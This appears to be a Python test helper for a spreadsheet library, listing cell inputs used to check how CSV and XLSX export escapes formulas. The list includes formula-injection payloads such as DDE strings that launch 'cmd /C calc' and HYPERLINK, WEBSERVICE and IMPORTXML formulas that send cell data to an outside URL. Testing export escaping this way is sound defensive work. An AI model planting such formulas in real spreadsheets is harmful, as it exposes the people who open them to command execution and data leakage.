"""What strangers type into cells, and short ways to write and read it."""

import io
from collections.abc import Iterable, Sequence

from portal.sheets.cells import Cell
from portal.sheets.read import read_table
from portal.sheets.tables import Sheet, Table
from portal.sheets.write import write_csv, write_xlsx

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.com/?x="&A1,"Click")',
    '=WEBSERVICE("https://example.com/")',
    '=IMPORTXML("https://example.com/","//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+1+1",
    "+86 21 5555",
    "-5",
    "-2+3+cmd|' /C calc'!D2",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@here",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1+1",
    "''=1+1",
    "'''-5",
    "'",
    "''",
    "'quoted'",
    "=",
    "-",
    "@",
    '="a","b"',
    "=1;=2",
    "{=1+1}",
    "=1+1\n=2+2",
    "https://example.com/",
    "mailto:a@example.com",
    "0012",
    "1e5",
    "12:30",
    "NO",
    "TRUE",
    "_x0041_",
    "<b>&amp;</b>",
    '"quoted"',
    " leading and trailing ",
    "安全门已上锁；每日巡查",
    "الحراسة على مدار الساعة",
    "Đảm bảo niêm phong",
    "🔒 container 😀",
    "e\u0301",
]


def csv_of(columns: Sequence[str], rows: Iterable[Sequence[Cell]]) -> bytes:
    held = io.BytesIO()
    write_csv(Sheet("Partners", columns, rows), held)
    return held.getvalue()


def xlsx_of(columns: Sequence[str], rows: Iterable[Sequence[Cell]], name: str = "Partners") -> bytes:
    held = io.BytesIO()
    write_xlsx([Sheet(name, columns, rows)], held)
    return held.getvalue()


def values(table: Table) -> list[list[str]]:
    """The rows without their headings."""
    return [list(row.cells.values()) for row in table.rows]


def read(data: bytes, **limits: int) -> Table:
    return read_table(data, "partners", **limits)
